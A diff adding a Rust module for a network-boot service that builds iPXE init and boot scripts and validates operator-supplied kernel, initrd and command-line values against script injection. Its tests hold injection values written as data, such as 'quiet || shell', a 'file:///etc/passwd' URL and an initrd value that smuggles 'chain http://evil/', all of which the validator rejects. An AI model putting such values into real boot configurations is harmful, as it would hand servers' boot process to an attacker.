@@ -1,0 +1,642 @@
+//! iPXE scripts: the init script every iPXE runs first (`/ipxe/init.ipxe`), and the boot
+//! targets a boot decision renders into (`/ipxe/boot.ipxe`).
+//!
+//! Scripts are built once (at start or when the inventory is loaded) and served as shared
+//! [`Bytes`]; nothing from a request is ever interpolated into a script, and every
+//! operator-supplied value that is (kernel and initrd URLs, the kernel command line) is
+//! validated so it cannot add script lines or commands.
+
+use std::fmt::{self, Write as _};
+use std::net::IpAddr;
+use std::str::FromStr;
+
+use bytes::Bytes;
+
+use crate::machine::MachineQuery;
+
+/// How many NICs (`net0`..) the init script tries per round: more than any server has,
+/// and the loop also stops at the first index without a NIC.
+pub(crate) const INIT_MAX_NICS: u32 = 8;
+/// Rounds over all NICs before the init script gives up (as the Go provider's script).
+pub(crate) const INIT_ROUNDS: u32 = 10;
+
+/// The script iPXE runs first: offers a shell on Ctrl-B, then brings up each NIC in turn
+/// with DHCP and chains to `boot.ipxe` on ironboot, identifying the machine in the query;
+/// after [`INIT_ROUNDS`] rounds without a boot script it waits and reboots.
+///
+/// Written for every iPXE in use, down to Debian's 1.0.0+git-20190125, so only classic
+/// commands appear (checked against that release's command table in the tests):
+/// - no `iflinkwait`: it became a command only in 2021; `dhcp` itself waits for link-up
+///   (15 s) in every release, so nothing is lost;
+/// - no `poweroff` (not in Debian's build); `reboot` is, and is `||`-guarded anyway;
+/// - counters are `:int32` settings with `inc` (iPXE 2013 and later) and `iseq`;
+/// - every command that can fail ends in `||` or `|| goto`: an unguarded failure would
+///   abort the script;
+/// - free-form values (DHCP host name and domain, SMBIOS serial) go out as `:uristring`,
+///   so spaces, `#` or `&` in them cannot break the URL. The MAC uses `:hexhyp` (a `:` in
+///   a query would be escaped) and the UUID and `${buildarch}` have fixed alphabets.
+pub(crate) fn init_script(advertise: IpAddr, port: u16) -> Bytes {
+    let host = match advertise {
+        IpAddr::V4(a) => a.to_string(),
+        IpAddr::V6(a) => format!("[{a}]"),
+    };
+    let boot_url = format!(
+        "http://{host}:{port}/ipxe/boot.ipxe?uuid=${{uuid}}&mac=${{net${{idx}}/mac:hexhyp}}\
+         &domain=${{domain:uristring}}&hostname=${{hostname:uristring}}\
+         &serial=${{serial:uristring}}&arch=${{buildarch}}"
+    );
+    let mut s = String::with_capacity(1024);
+    let _ = write!(
+        s,
+        "#!ipxe\n\
+         # ironboot init script: DHCP on each NIC in turn, then chain to this machine's boot script.\n\
+         prompt --key 0x02 --timeout 2000 Press Ctrl-B for the iPXE command line... && shell ||\n\
+         ifstat ||\n\
+         set round:int32 0\n\
+         :round\n\
+         inc round\n\
+         set idx:int32 0\n\
+         :nic\n\
+         isset ${{net${{idx}}/mac}} || goto next_round\n\
+         echo ironboot: round ${{round}} of {INIT_ROUNDS}: DHCP on net${{idx}}\n\
+         ifclose ||\n\
+         dhcp net${{idx}} || goto next_nic\n\
+         route ||\n\
+         chain --replace {boot_url} || goto next_nic\n\
+         :next_nic\n\
+         inc idx\n\
+         iseq ${{idx}} {INIT_MAX_NICS} || goto nic\n\
+         :next_round\n\
+         iseq ${{round}} {INIT_ROUNDS} || goto round\n\
+         echo ironboot: no boot script from http://{host}:{port} after {INIT_ROUNDS} rounds, rebooting in 5 seconds\n\
+         sleep 5\n\
+         reboot ||\n\
+         exit 1\n"
+    );
+    Bytes::from(s)
+}
+
+/// Why an operator-supplied value cannot go into a script.
+#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
+pub(crate) enum ScriptError {
+    /// An inline script without the `#!ipxe` signature iPXE requires.
+    #[error("must start with the line \"#!ipxe\"")]
+    NoSignature,
+    /// Empty where a value is required.
+    #[error("is empty")]
+    Empty,
+    /// A control character (newline, tab, NUL, ...), which could start a new script line.
+    #[error("contains a control character (newline, tab, ...), which could add script lines")]
+    ControlChar,
+    /// Whitespace inside a URL (iPXE would split it into two arguments).
+    #[error("contains whitespace; URLs are single tokens (percent-encode spaces)")]
+    Whitespace,
+    /// A scheme iPXE does not fetch with here.
+    #[error("must be an absolute http://, https:// or tftp:// URL")]
+    Scheme,
+    /// A token iPXE's shell reads as a command separator or a comment.
+    #[error("contains the token {0:?}, which iPXE reads as a command separator or comment")]
+    ShellToken(String),
+}
+
+fn no_control(value: &str) -> Result<(), ScriptError> {
+    if value.chars().any(char::is_control) {
+        return Err(ScriptError::ControlChar);
+    }
+    Ok(())
+}
+
+/// iPXE splits a line at whitespace, then treats the tokens `||`, `&&`, `;` as command
+/// separators and a token starting with `#` as the start of a comment.
+fn no_shell_tokens(value: &str) -> Result<(), ScriptError> {
+    match value
+        .split(' ')
+        .find(|t| matches!(*t, "||" | "&&" | ";") || t.starts_with('#'))
+    {
+        Some(t) => Err(ScriptError::ShellToken(t.to_owned())),
+        None => Ok(()),
+    }
+}
+
+/// A kernel or initrd URL: one token, absolute, of a scheme iPXE fetches.
+fn check_url(value: &str) -> Result<(), ScriptError> {
+    if value.is_empty() {
+        return Err(ScriptError::Empty);
+    }
+    no_control(value)?;
+    if value.contains(char::is_whitespace) {
+        return Err(ScriptError::Whitespace);
+    }
+    let lower = value.to_ascii_lowercase();
+    let has_scheme = ["http://", "https://", "tftp://"]
+        .iter()
+        .any(|s| lower.len() > s.len() && lower.starts_with(s));
+    if !has_scheme {
+        return Err(ScriptError::Scheme);
+    }
+    Ok(())
+}
+
+/// An inline iPXE script, served verbatim.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub(crate) struct IpxeScript(Bytes);
+
+impl IpxeScript {
+    /// Accept `text` if its first line is `#!ipxe` (iPXE refuses anything else).
+    pub(crate) fn new(text: &str) -> Result<Self, ScriptError> {
+        let first = text.lines().next().unwrap_or("");
+        if first.trim_end() != "#!ipxe" {
+            return Err(ScriptError::NoSignature);
+        }
+        Ok(IpxeScript(Bytes::copy_from_slice(text.as_bytes())))
+    }
+
+    /// The script text.
+    pub(crate) fn bytes(&self) -> &Bytes {
+        &self.0
+    }
+}
+
+/// A kernel boot: rendered once into `kernel`/`initrd`/`boot` lines.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub(crate) struct KernelBoot {
+    script: Bytes,
+}
+
+/// Which part of a kernel boot a validation error is about.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub(crate) enum KernelField {
+    /// The kernel URL.
+    Kernel,
+    /// The initrd URL at this index.
+    Initrd(usize),
+    /// The command line.
+    Cmdline,
+}
+
+impl fmt::Display for KernelField {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        match self {
+            KernelField::Kernel => f.write_str("kernel"),
+            KernelField::Initrd(i) => write!(f, "initrd[{i}]"),
+            KernelField::Cmdline => f.write_str("cmdline"),
+        }
+    }
+}
+
+impl KernelBoot {
+    /// Validate and render. The command line may use iPXE settings such as `${uuid}`
+    /// (iPXE expands them at boot), but no control characters or shell tokens.
+    pub(crate) fn new(
+        kernel: &str,
+        initrds: &[String],
+        cmdline: &str,
+    ) -> Result<Self, (KernelField, ScriptError)> {
+        check_url(kernel).map_err(|e| (KernelField::Kernel, e))?;
+        for (i, initrd) in initrds.iter().enumerate() {
+            check_url(initrd).map_err(|e| (KernelField::Initrd(i), e))?;
+        }
+        let cmdline = cmdline.trim();
+        no_control(cmdline)
+            .and_then(|()| no_shell_tokens(cmdline))
+            .map_err(|e| (KernelField::Cmdline, e))?;
+        let mut s = String::from("#!ipxe\nkernel ");
+        s.push_str(kernel);
+        if !cmdline.is_empty() {
+            s.push(' ');
+            s.push_str(cmdline);
+        }
+        s.push('\n');
+        for initrd in initrds {
+            let _ = writeln!(s, "initrd {initrd}");
+        }
+        s.push_str("boot\n");
+        Ok(KernelBoot {
+            script: Bytes::from(s),
+        })
+    }
+
+    /// The rendered script.
+    pub(crate) fn bytes(&self) -> &Bytes {
+        &self.script
+    }
+}
+
+/// What a machine should boot. Cheap to clone (shared bytes).
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub(crate) enum BootTarget {
+    /// Its own disk, by the `--boot-from-disk-method`.
+    Disk,
+    /// An inline iPXE script.
+    Script(IpxeScript),
+    /// A kernel with initrds and a command line.
+    Kernel(KernelBoot),
+}
+
+impl BootTarget {
+    /// Label for metrics, logs and the machine record.
+    pub(crate) fn kind(&self) -> &'static str {
+        match self {
+            BootTarget::Disk => "disk",
+            BootTarget::Script(_) => "script",
+            BootTarget::Kernel(_) => "kernel",
+        }
+    }
+
+    /// Every kind, for metrics.
+    pub(crate) const KINDS: [&'static str; 3] = ["disk", "script", "kernel"];
+}
+
+/// Decides what a machine boots. The standalone implementation is the inventory; Omni
+/// mode will decide from the machine's state in Omni.
+pub(crate) trait BootDecider: Send + Sync {
+    /// The target for this machine. Must not block: it runs on the HTTP path.
+    fn decide(&self, who: &MachineQuery) -> BootTarget;
+}
+
+/// How "boot from disk" is told to iPXE, as the Go provider's `--boot-from-disk-method`.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
+pub(crate) enum BootFromDiskMethod {
+    /// `#!ipxe` + `exit`: iPXE returns to the firmware, which boots the next device.
+    #[default]
+    IpxeExit,
+    /// HTTP 404 for `boot.ipxe`: the fetch fails and the firmware moves on.
+    Http404,
+    /// `sanboot --no-describe --drive 0x80`: iPXE boots the first BIOS disk itself.
+    IpxeSanboot,
+}
+
+impl BootFromDiskMethod {
+    /// All values, in flag spelling.
+    #[cfg(test)]
+    pub(crate) const NAMES: [&'static str; 3] = ["ipxe-exit", "http-404", "ipxe-sanboot"];
+
+    /// Flag spelling.
+    pub(crate) fn as_str(self) -> &'static str {
+        match self {
+            BootFromDiskMethod::IpxeExit => "ipxe-exit",
+            BootFromDiskMethod::Http404 => "http-404",
+            BootFromDiskMethod::IpxeSanboot => "ipxe-sanboot",
+        }
+    }
+}
+
+impl fmt::Display for BootFromDiskMethod {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        f.write_str(self.as_str())
+    }
+}
+
+/// An unknown `--boot-from-disk-method` value.
+#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
+#[error("unknown boot-from-disk method {0:?}; use one of ipxe-exit, http-404, ipxe-sanboot")]
+pub(crate) struct UnknownMethod(String);
+
+impl FromStr for BootFromDiskMethod {
+    type Err = UnknownMethod;
+
+    fn from_str(s: &str) -> Result<Self, UnknownMethod> {
+        match s {
+            "ipxe-exit" => Ok(BootFromDiskMethod::IpxeExit),
+            "http-404" => Ok(BootFromDiskMethod::Http404),
+            "ipxe-sanboot" => Ok(BootFromDiskMethod::IpxeSanboot),
+            _ => Err(UnknownMethod(s.to_owned())),
+        }
+    }
+}
+
+/// What `/ipxe/boot.ipxe` answers.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub(crate) enum Rendered {
+    /// 200 with this script.
+    Script(Bytes),
+    /// 404 with this message (boot from disk by `http-404`).
+    NotFound(&'static str),
+}
+
+const EXIT_SCRIPT: &[u8] = b"#!ipxe\nexit\n";
+const SANBOOT_SCRIPT: &[u8] = b"#!ipxe\nsanboot --no-describe --drive 0x80\n";
+
+/// The response for `target`. No allocation: every script is shared bytes.
+pub(crate) fn render(target: &BootTarget, disk: BootFromDiskMethod) -> Rendered {
+    match target {
+        BootTarget::Script(s) => Rendered::Script(s.bytes().clone()),
+        BootTarget::Kernel(k) => Rendered::Script(k.bytes().clone()),
+        BootTarget::Disk => match disk {
+            BootFromDiskMethod::IpxeExit => Rendered::Script(Bytes::from_static(EXIT_SCRIPT)),
+            BootFromDiskMethod::IpxeSanboot => Rendered::Script(Bytes::from_static(SANBOOT_SCRIPT)),
+            BootFromDiskMethod::Http404 => {
+                Rendered::NotFound("boot from disk (--boot-from-disk-method=http-404)\n")
+            }
+        },
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use std::net::{Ipv4Addr, Ipv6Addr};
+
+    use super::*;
+
+    /// Commands of Debian's iPXE 1.0.0+git-20190125.36a4c85 (the `struct command` names in
+    /// its `src/core`, `src/hci/commands` and `src/image` with Debian's config, whose
+    /// `general.h` adds `REBOOT_CMD`). `iflinkwait` and `poweroff` are not among them.
+    const DEBIAN_2019_COMMANDS: &[&str] = &[
+        "autoboot",
+        "chain",
+        "clear",
+        "cpuid",
+        "dhcp",
+        "echo",
+        "exit",
+        "goto",
+        "ifclose",
+        "ifconf",
+        "ifopen",
+        "ifstat",
+        "imgexec",
+        "imgfetch",
+        "imgfree",
+        "imgselect",
+        "inc",
+        "initrd",
+        "iseq",
+        "isset",
+        "kernel",
+        "login",
+        "menu",
+        "item",
+        "choose",
+        "prompt",
+        "read",
+        "reboot",
+        "route",
+        "sanboot",
+        "set",
+        "shell",
+        "show",
+        "sleep",
+        "sync",
+        "boot",
+    ];
+
+    /// Split a script line like iPXE's `system()`: whitespace tokens, commands separated by
+    /// `||`, `&&`, `;`, a `#` token starts a comment. Returns the command names.
+    fn commands_of(line: &str) -> Vec<&str> {
+        let mut out = Vec::new();
+        let mut expect_command = true;
+        for token in line.split_whitespace() {
+            if token.starts_with('#') {
+                break;
+            }
+            if matches!(token, "||" | "&&" | ";") {
+                expect_command = true;
+            } else if expect_command {
+                out.push(token);
+                expect_command = false;
+            }
+        }
+        out
+    }
+
+    fn lines(script: &[u8]) -> Vec<&str> {
+        std::str::from_utf8(script).unwrap().lines().collect()
+    }
+
+    #[test]
+    fn init_script_uses_only_commands_of_debians_2019_ipxe() {
+        let script = init_script(IpAddr::V4(Ipv4Addr::new(10, 0, 0, 1)), 50042);
+        let lines = lines(&script);
+        assert_eq!(lines[0], "#!ipxe");
+        let mut labels = Vec::new();
+        let mut gotos = Vec::new();
+        for line in &lines[1..] {
+            if let Some(label) = line.strip_prefix(':') {
+                labels.push(label);
+                continue;
+            }
+            for cmd in commands_of(line) {
+                assert!(
+                    DEBIAN_2019_COMMANDS.contains(&cmd),
+                    "{cmd:?} is not a command of Debian's iPXE (line {line:?})"
+                );
+            }
+            let tokens: Vec<&str> = line.split_whitespace().collect();
+            for w in tokens.windows(2) {
+                if w[0] == "goto" {
+                    gotos.push(w[1]);
+                }
+            }
+        }
+        for g in gotos {
+            assert!(labels.contains(&g), "goto {g} has no label");
+        }
+    }
+
+    /// Where Debian's `ipxe` package is installed, its EFI binaries hold every command name
+    /// as a NUL-terminated string (possibly the tail of a longer one, after the linker's
+    /// string merging): a command the init script uses must be there. This catches
+    /// `iflinkwait` and `poweroff`, which are absent from that build.
+    #[test]
+    fn init_script_commands_are_in_the_installed_debian_ipxe() {
+        let Ok(binary) = std::fs::read("/usr/lib/ipxe/snponly.efi") else {
+            eprintln!("skipped: /usr/lib/ipxe/snponly.efi not installed (apt-get install ipxe)");
+            return;
+        };
+        let has = |name: &str| {
+            let needle = [name.as_bytes(), b"\0"].concat();
+            binary.windows(needle.len()).any(|w| w == needle.as_slice())
+        };
+        assert!(
+            !has("iflinkwait") && !has("poweroff"),
+            "the probe itself works"
+        );
+        let script = init_script(IpAddr::V4(Ipv4Addr::new(10, 0, 0, 1)), 50042);
+        for line in lines(&script)
+            .iter()
+            .skip(1)
+            .filter(|l| !l.starts_with(':'))
+        {
+            for cmd in commands_of(line) {
+                assert!(has(cmd), "{cmd:?} not in Debian's snponly.efi");
+            }
+        }
+    }
+
+    #[test]
+    fn init_script_guards_every_command_that_can_fail() {
+        let script = init_script(IpAddr::V4(Ipv4Addr::new(10, 0, 0, 1)), 50042);
+        // Commands that cannot fail with these arguments (set/inc of a local setting,
+        // echo, sleep, exit, goto of an existing label; iseq/isset only in a guard).
+        let safe = ["set", "inc", "echo", "sleep", "exit", "goto"];
+        for line in lines(&script).iter().skip(1) {
+            if line.starts_with(':') || line.starts_with('#') {
+                continue;
+            }
+            let cmds = commands_of(line);
+            if cmds.iter().all(|c| safe.contains(c)) {
+                continue;
+            }
+            assert!(line.contains("||"), "unguarded line {line:?}");
+        }
+    }
+
+    #[test]
+    fn init_script_chains_to_boot_ipxe_with_every_identifier() {
+        let script = init_script(IpAddr::V4(Ipv4Addr::new(10, 0, 0, 1)), 50042);
+        let text = std::str::from_utf8(&script).unwrap();
+        let chain = text
+            .lines()
+            .find(|l| l.starts_with("chain "))
+            .expect("a chain line");
+        assert_eq!(
+            chain,
+            "chain --replace http://10.0.0.1:50042/ipxe/boot.ipxe?uuid=${uuid}\
+             &mac=${net${idx}/mac:hexhyp}&domain=${domain:uristring}\
+             &hostname=${hostname:uristring}&serial=${serial:uristring}&arch=${buildarch} \
+             || goto next_nic"
+        );
+        assert!(text.contains("prompt --key 0x02 --timeout 2000 "));
+        assert!(text.contains(&format!("iseq ${{round}} {INIT_ROUNDS} || goto round")));
+        assert!(text.contains("sleep 5\nreboot ||\n"));
+        // Settings with balanced braces: every `${` closes.
+        assert_eq!(text.matches("${").count(), text.matches('}').count());
+        assert!(text.len() < 1500, "short enough to embed in a binary");
+        let v6 = init_script(IpAddr::V6(Ipv6Addr::LOCALHOST), 8080);
+        assert!(
+            std::str::from_utf8(&v6)
+                .unwrap()
+                .contains("http://[::1]:8080/ipxe/boot.ipxe?")
+        );
+    }
+
+    #[test]
+    fn disk_methods_render_like_the_go_provider() {
+        let cases = [
+            (
+                BootFromDiskMethod::IpxeExit,
+                Rendered::Script(Bytes::from_static(b"#!ipxe\nexit\n")),
+            ),
+            (
+                BootFromDiskMethod::IpxeSanboot,
+                Rendered::Script(Bytes::from_static(
+                    b"#!ipxe\nsanboot --no-describe --drive 0x80\n",
+                )),
+            ),
+        ];
+        for (method, want) in cases {
+            assert_eq!(render(&BootTarget::Disk, method), want, "{method}");
+        }
+        assert!(matches!(
+            render(&BootTarget::Disk, BootFromDiskMethod::Http404),
+            Rendered::NotFound(_)
+        ));
+        assert_eq!(BootFromDiskMethod::default(), BootFromDiskMethod::IpxeExit);
+        for name in BootFromDiskMethod::NAMES {
+            assert_eq!(name.parse::<BootFromDiskMethod>().unwrap().as_str(), name);
+        }
+        let e = "exit".parse::<BootFromDiskMethod>().unwrap_err();
+        assert!(e.to_string().contains("ipxe-exit, http-404, ipxe-sanboot"));
+    }
+
+    #[test]
+    fn kernel_boots_render_one_line_per_image() {
+        let k = KernelBoot::new(
+            "http://10.0.0.1/vmlinuz",
+            &[
+                "http://10.0.0.1/initrd.img".into(),
+                "http://10.0.0.1/extra.cpio".into(),
+            ],
+            "  console=ttyS0 talos.config=http://10.0.0.1/config?u=${uuid} ",
+        )
+        .unwrap();
+        assert_eq!(
+            std::str::from_utf8(k.bytes()).unwrap(),
+            "#!ipxe\nkernel http://10.0.0.1/vmlinuz console=ttyS0 \
+             talos.config=http://10.0.0.1/config?u=${uuid}\ninitrd http://10.0.0.1/initrd.img\n\
+             initrd http://10.0.0.1/extra.cpio\nboot\n"
+        );
+        let bare = KernelBoot::new("tftp://10.0.0.1/k", &[], "").unwrap();
+        assert_eq!(
+            bare.bytes().as_ref(),
+            b"#!ipxe\nkernel tftp://10.0.0.1/k\nboot\n"
+        );
+    }
+
+    #[test]
+    fn injection_attempts_are_refused() {
+        use KernelField::*;
+        use ScriptError::*;
+        let ok = "http://h/k";
+        let cases: &[(&str, &[&str], &str, KernelField, ScriptError)] = &[
+            ("http://h/k\nshell", &[], "", Kernel, ControlChar),
+            ("http://h/k shell", &[], "", Kernel, Whitespace),
+            ("http://h/k\tshell", &[], "", Kernel, ControlChar),
+            ("", &[], "", Kernel, Empty),
+            ("http://", &[], "", Kernel, Scheme),
+            ("file:///etc/passwd", &[], "", Kernel, Scheme),
+            ("vmlinuz", &[], "", Kernel, Scheme),
+            (
+                ok,
+                &["http://h/i\r\nchain http://evil/"],
+                "",
+                Initrd(0),
+                ControlChar,
+            ),
+            (
+                ok,
+                &["http://h/i", "http://h/j || shell"],
+                "",
+                Initrd(1),
+                Whitespace,
+            ),
+            (ok, &[], "quiet\nshell", Cmdline, ControlChar),
+            (ok, &[], "quiet\0", Cmdline, ControlChar),
+            (ok, &[], "quiet || shell", Cmdline, ShellToken("||".into())),
+            (ok, &[], "quiet && shell", Cmdline, ShellToken("&&".into())),
+            (ok, &[], "quiet ; shell", Cmdline, ShellToken(";".into())),
+            (
+                ok,
+                &[],
+                "quiet #comment",
+                Cmdline,
+                ShellToken("#comment".into()),
+            ),
+        ];
+        for (kernel, initrds, cmdline, field, err) in cases {
+            let initrds: Vec<String> = initrds.iter().map(|s| s.to_string()).collect();
+            assert_eq!(
+                KernelBoot::new(kernel, &initrds, cmdline),
+                Err((*field, err.clone())),
+                "{kernel:?} {initrds:?} {cmdline:?}"
+            );
+        }
+        // Tokens merely containing the characters are fine (iPXE only splits on whole tokens).
+        assert!(KernelBoot::new(ok, &[], "a=b;c x#y ip=::::eth0:dhcp").is_ok());
+    }
+
+    #[test]
+    fn inline_scripts_need_the_signature() {
+        for ok in ["#!ipxe\necho hi\n", "#!ipxe", "#!ipxe  \r\nexit\n"] {
+            assert_eq!(
+                IpxeScript::new(ok).unwrap().bytes().as_ref(),
+                ok.as_bytes(),
+                "{ok:?}"
+            );
+        }
+        for bad in [
+            "",
+            "echo hi",
+            " #!ipxe\n",
+            "#!ipxefoo\n",
+            "#!IPXE\n",
+            "#!/bin/sh\n",
+        ] {
+            assert_eq!(
+                IpxeScript::new(bad),
+                Err(ScriptError::NoSignature),
+                "{bad:?}"
+            );
+        }
+    }
+}
